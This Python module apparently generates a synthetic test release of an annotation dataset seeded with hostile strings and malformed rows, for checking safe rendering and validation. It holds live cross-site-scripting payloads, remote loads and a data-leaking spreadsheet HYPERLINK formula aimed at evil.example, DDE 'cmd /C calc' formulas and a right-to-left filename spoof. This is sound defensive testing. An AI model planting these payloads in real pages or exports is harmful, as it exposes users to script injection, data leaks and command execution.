"""A synthetic release seeded with hostile text (HTML, Markdown, formulas, control characters) and malformed rows."""
from __future__ import annotations

import json
from dataclasses import dataclass, field
from pathlib import Path

from core.config import HF_CONFIGS
from core.synth import ranker_run, readme, writer
from core.synth.dataset import Synthetic, synthesize

HOSTILE_SEED = 666
PWNED_FLAG = "__ca_pwned"   # every script payload sets window.__ca_pwned; a test asserts it stays unset
EVIL_HOST = "evil.example"
HUGE_CHARS = 100_000


def _huge() -> str:
    unit = f"<b>big</b> ![i](http://{EVIL_HOST}/big.png) 🧪 नमस्ते "
    return ("=HUGE(" + unit * (HUGE_CHARS // len(unit) + 1))[:HUGE_CHARS]


# name -> text. Every string is stored, shown and downloaded exactly as written here.
HOSTILE: dict[str, str] = {
    "script": f"<script>window.{PWNED_FLAG}=1;alert(1)</script> script tag",
    "img_onerror": f'<img src=x onerror="window.{PWNED_FLAG}=1;alert(1)"> image',
    "svg_onload": f'<svg onload="window.{PWNED_FLAG}=1;alert(1)"></svg> svg',
    "iframe": f'<iframe src="http://{EVIL_HOST}/frame"></iframe> frame',
    "remote_img": f'<img src="http://{EVIL_HOST}/pixel.png"> remote pixel',
    "style_import": f"<style>@import url(http://{EVIL_HOST}/x.css);</style> style",
    "md_image": f"![x](http://{EVIL_HOST}/x.png) markdown image",
    "md_js_link": f"[click](javascript:window.{PWNED_FLAG}=1;alert(1)) markdown link",
    "md_mixed": f'**bold** _it_ <a href="javascript:alert(1)">a</a> [site](http://{EVIL_HOST}/a) # heading',
    "latex": r"$\href{javascript:alert(1)}{x}$ and :red[red] :material/home: shortcodes",
    "formula_hyperlink": f'=HYPERLINK("http://{EVIL_HOST}/?leak="&A1,"click")',
    "formula_plain": "=1+1",
    "formula_plus": "+1+1 plus",
    "formula_minus": "-2+3 minus",
    "formula_at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula_dde": "=cmd|' /C calc'!A0",
    "leading_tab": "\t=1+1 tab",
    "leading_cr": "\r=1+1 carriage return",
    "leading_nul": "\x00=1+1 nul",
    "rtl_override": "invoice\u202Egpj.exe right-to-left",
    "zero_width": "zero\u200bwidth\u200c\u200djoiner\ufeff\u2060 text",
    "emoji": "👩‍👩‍👧‍👦 🏳️‍🌈 😀 emoji",
    "arabic": "مرحبا بالعالم، هذا نص عربي",
    "chinese": "你好，世界。这是中文文本。",
    "hindi": "नमस्ते दुनिया, यह हिंदी पाठ है",
    "csv_quoting": 'He said "hi", then\nleft; a,b,"c"\r\nnext line',
    "huge": _huge(),
}
HOSTILE_PROMPT_ID = f'=HYPERLINK("http://{EVIL_HOST}")<b>id</b>'
HOSTILE_ANNOTATOR_ID = "=cmd|' /C calc'!A0 annotator"
HOSTILE_GENDER = f'<img src=x onerror="window.{PWNED_FLAG}=1">Other'
N_HOSTILE_GENDER = 12      # enough participants for the level to be shown (a drawn chart label)
N_HOSTILE_PROMPTS = 8      # prompts (after the anchor) that carry hostile conversations and responses


@dataclass
class Planted:
    """Where the hostile strings went, and the malformed input planted (what the build must report)."""

    anchor_prompt_id: str
    prompt_ids: list[str]                      # hostile prompts, anchor first
    messages: dict[str, str] = field(default_factory=dict)     # prompt_id -> hostile name of the first user turn
    responses: dict[str, dict[str, str]] = field(default_factory=dict)   # prompt_id -> letter -> name
    ranker_rationales: dict[str, str] = field(default_factory=dict)      # prompt_id -> name
    rejected_rows: dict[str, int] = field(default_factory=dict)          # file -> malformed lines appended
    rejected_assessments: int = 0
    hostile_prompt_id: str = HOSTILE_PROMPT_ID
    hostile_annotator_id: str = HOSTILE_ANNOTATOR_ID
    hostile_gender: str = HOSTILE_GENDER

    def as_dict(self) -> dict:
        return dict(self.__dict__)


def _cycle(start: int):
    names = list(HOSTILE)
    i = start
    while True:
        yield names[i % len(names)]
        i += 1


def plant(data: Synthetic) -> Planted:
    """Overwrite text in the generated data with hostile strings; ids and counts stay consistent across files."""
    comparisons = data.by_prompt()
    shown = [p for p in data.prompts if p.in_comparisons]
    anchor = next(p for p in shown if p.is_anchor)
    busiest = sorted((p for p in shown if not p.is_anchor), key=lambda p: -len(comparisons[p.index]))
    targets = [anchor, *busiest[:N_HOSTILE_PROMPTS]]
    # A hostile prompt id (URLs, file names, CSV cells) on the last hostile prompt: it stays in every file.
    targets[-1].prompt_id = HOSTILE_PROMPT_ID
    planted = Planted(anchor.prompt_id, [p.prompt_id for p in targets])
    names = _cycle(0)
    for k, prompt in enumerate(targets):
        # The anchor's conversation is the script tag: the browser test opens it and looks for the literal text.
        first = "script" if k == 0 else next(names)
        user = next(m for m in prompt.messages if m["role"] == "user")
        user["content"] = HOSTILE[first]
        planted.messages[prompt.prompt_id] = first
        planted.responses[prompt.prompt_id] = {}
        for response in prompt.responses:
            name = next(names)
            response["messages"][0]["content"] = HOSTILE[name]
            planted.responses[prompt.prompt_id][response["response_index"]] = name
        for a in comparisons[prompt.index]:
            blocks = a.blocks
            blocks["world"][0]["rationale"] = HOSTILE[next(names)]
            if blocks["personal"]:
                blocks["personal"][0]["rationale"] = HOSTILE[next(names)]
            if blocks["unacceptable"]:
                blocks["unacceptable"][0]["rationale"] = HOSTILE[next(names)]
    people = [row[0].person for row in data.rows]
    for i, person in enumerate(people):
        person.demographics["ideal-model-behavior"] = HOSTILE[list(HOSTILE)[i % len(HOSTILE)]]
    people[0].annotator_id = HOSTILE_ANNOTATOR_ID
    for person in people[1:1 + N_HOSTILE_GENDER]:
        person.demographics["gender"] = HOSTILE_GENDER
    return planted


def _hostile_ranker_rationales(out: Path, planted: Planted) -> None:
    """Rewrite the run's rankings.jsonl so the hostile prompts carry hostile ranker rationales."""
    path = out / "rankers" / ranker_run.RUN_ID / "rankings.jsonl"
    rows = [json.loads(line) for line in path.read_text(encoding="utf-8").splitlines() if line.strip()]
    names = _cycle(3)
    for row in rows:
        if row["prompt_id"] in planted.prompt_ids:
            name = next(names)
            row["rationale"] = HOSTILE[name]
            planted.ranker_rationales[row["prompt_id"]] = name
    path.write_text("".join(json.dumps(r, ensure_ascii=False) + "\n" for r in rows), encoding="utf-8")


# Malformed lines appended to each file: (raw bytes, the build_report check that must count it).
MALFORMED = {
    "comparisons": [
        (b'{"prompt_id": "broken', "malformed_json"),
        (b'\xff\xfe{"prompt_id": "latin-1 bytes \xe9"}', "malformed_json"),
        (b"[1, 2, 3]", "not_an_object"),
        (b'{"prompt_id": "no-prompt-key", "responses": [], "metadata": {"assessments": []}}', "missing_key"),
        (json.dumps({"prompt_id": "three-responses", "prompt": {"messages": [{"role": "user", "content": "<b>x</b>"}]},
                     "responses": [{"response_index": x, "messages": [{"role": "assistant", "content": "r"}]}
                                   for x in "ABC"],
                     "metadata": {"assessments": []}}).encode(), "responses_not_a_to_d"),
    ],
    "annotators": [
        (b"not json at all <script>alert(1)</script>", "malformed_json"),
        (b'{"annotator_id": 5, "demographics": {}, "assessments": []}', "wrong_type"),
        # depth 1,000 raised RecursionError; 10,000 crashed pyarrow (SIGSEGV): one rejected line each
        (b'{"annotator_id": "deep", "demographics": ' + b"[" * 1_000 + b"]" * 1_000 + b"}", "json_too_deep"),
        (b'{"annotator_id": "deeper", "demographics": ' + b"[" * 10_000 + b"]" * 10_000 + b"}", "json_too_deep"),
        (b'{"annotator_id": "surrogate", "demographics": {"gender": "\\ud800"}, "assessments": []}',
         "json_lone_surrogate"),
        (b'{"annotator_id": "twice", "annotator_id": "twice-2", "demographics": {}, "assessments": []}',
         "json_duplicate_key"),
        (b'\xef\xbb\xbf{"annotator_id": "bom-mid-file", "demographics": {}, "assessments": []}',
         "json_bom_mid_file"),
    ],
    "merged_comparison_annotators": [
        (b'{"prompt_id": ', "malformed_json"),
        (b'{"prompt_id": "p", "annotator_id": "\\udfff lone low surrogate"}', "json_lone_surrogate"),
    ],
}
BAD_RANKING = "A>>B>C"   # an assessment with this ranking is rejected (invalid_ranking.syntax)


def _append_malformed(out: Path, planted: Planted) -> None:
    for config_name, lines in MALFORMED.items():
        path = out / HF_CONFIGS[config_name]
        with path.open("ab") as f:
            for raw, _check in lines:
                f.write(raw + b"\n")
        planted.rejected_rows[HF_CONFIGS[config_name]] = len(lines)


def _add_bad_assessment(out: Path, planted: Planted) -> None:
    """One assessment with an invalid ranking inside a hostile prompt of comparisons.jsonl (rejected, counted)."""
    path = out / HF_CONFIGS["comparisons"]
    lines = path.read_bytes().split(b"\n")
    target = planted.prompt_ids[1]
    for i, line in enumerate(lines):
        if not line.startswith(b"{"):
            continue
        row = json.loads(line)
        if row.get("prompt_id") == target:
            bad = dict(row["metadata"]["assessments"][0])
            bad["ranking_blocks"] = {"world": [{"ranking": BAD_RANKING, "rationale": HOSTILE["script"]}],
                                     "personal": [], "unacceptable": []}
            row["metadata"]["assessments"].append(bad)
            lines[i] = json.dumps(row, ensure_ascii=False).encode("utf-8")
            break
    path.write_bytes(b"\n".join(lines))
    planted.rejected_assessments = 1


def generate(out: Path, seed: int = HOSTILE_SEED) -> Planted:
    """Write the hostile release (small scale) with its ranker run, README and `hostile_planted.json`."""
    data = synthesize("small", seed)
    planted = plant(data)
    counts = writer.write_release(out, data)
    truth = writer.write_ranker_run(out, data)
    _hostile_ranker_rationales(out, planted)
    _add_bad_assessment(out, planted)
    _append_malformed(out, planted)
    (out / "README.md").write_text(readme.render(data, counts, truth), encoding="utf-8")
    (out / "hostile_planted.json").write_text(json.dumps(planted.as_dict(), ensure_ascii=False, indent=1),
                                              encoding="utf-8")
    return planted
